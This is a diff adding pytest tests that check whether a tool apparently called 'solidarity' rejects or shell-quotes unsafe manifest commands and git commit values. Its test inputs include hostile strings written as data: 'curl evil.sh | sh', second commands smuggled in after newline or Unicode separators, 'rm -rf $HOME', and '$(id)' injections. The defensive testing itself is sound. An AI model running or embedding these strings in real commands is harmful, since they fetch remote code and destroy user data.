@@ -7,6 +7,8 @@ import pytest
 
 from sim.errors import RequestError
 from sim.manifest import checksums
+from sim.telling.common import made_section
+from sim.telling.needed import repeat_of
 from sim.telling.old.document import comparison_schema
 from sim.telling.reading import read_result
 
@@ -212,3 +214,43 @@ def test_documents_are_finite(folder, rewrite):
     rewrite(lambda manifest: manifest.update(files=checksums(folder)))
     with pytest.raises(RequestError, match="finite numbers alone, there is NaN"):
         read_result(folder).document("comparison.json", comparison_schema())
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl evil.sh | sh",
+        "",
+        "solidarity",
+        "solidarity scenarios",
+        "solidarity run tiny.toml",
+        "'solidarity compare' tiny.toml",
+        "solidarity compare 'tiny.toml",
+        "solidarity compare tiny.toml\ncurl evil.sh",
+        "solidarity compare tiny.toml\rcurl evil.sh",
+        "solidarity compare tiny.toml\u2028curl evil.sh",
+        "solidarity compare tiny.toml\x1b[2K",
+    ],
+)
+def test_a_command_that_solidarity_did_not_get_is_not_offered(folder, rewrite, command):
+    rewrite(lambda manifest: manifest.update(command=command))
+    (line,) = refused(folder)
+    assert line.startswith(f"{folder / 'manifest.json'}: command: expected ")
+
+
+def test_no_sign_of_a_command_means_more_to_a_shell_than_itself(folder, rewrite):
+    rewrite(
+        lambda held: held.update(command="solidarity compare tiny.toml; rm -rf $HOME `id` > x & y")
+    )
+    result = read_result(folder)
+    section = made_section(result, repeat_of(result))
+    assert section.blocks[1].text == (
+        "solidarity compare 'tiny.toml;' rm -rf '$HOME' '`id`' '>' x '&' y --out result"
+    )
+
+
+@pytest.mark.parametrize("commit", ["abc", "main", "$(id)", "0123456789ab; id", "A" * 12, "a" * 41])
+def test_a_commit_is_a_number_of_git(folder, rewrite, commit):
+    rewrite(lambda manifest: manifest.update(git={"commit": commit, "dirty": False}))
+    (line,) = refused(folder)
+    assert line.startswith(f"{folder / 'manifest.json'}: git.commit: ")
